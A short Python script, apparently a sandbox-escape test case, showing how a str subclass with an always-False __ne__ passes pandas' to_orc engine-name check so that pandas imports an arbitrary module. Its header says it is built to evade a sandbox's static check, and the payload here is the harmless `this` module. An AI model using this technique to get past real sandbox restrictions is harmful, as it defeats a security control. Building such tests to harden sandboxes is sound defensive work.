# source: pandas 1.5.3 pandas/io/orc.py to_orc: `if engine != "pyarrow": raise` then import_optional_dependency(engine) -> importlib.import_module(engine); sandexec README, "The static check", (a str subclass's __eq__/__hash__ are refused, not __ne__ or a base that is not written as str)
# family: a string that passes a library's name check by its own comparison (__ne__ defined in a subclass of a script class that derives from str), then names a module to import
# goal: imports the module `this` (prints the Zen of Python) as DataFrame.to_orc's engine
import numpy as np
import pandas as pd


class Name(str):
    pass


class Engine(Name):
    def __ne__(self, other):
        return False


df = pd.DataFrame({"a": [1.0]})
try:
    df.to_orc(engine=Engine("".join(["th", "is"])))
except Exception as e:
    print("after import:", type(e).__name__, e)
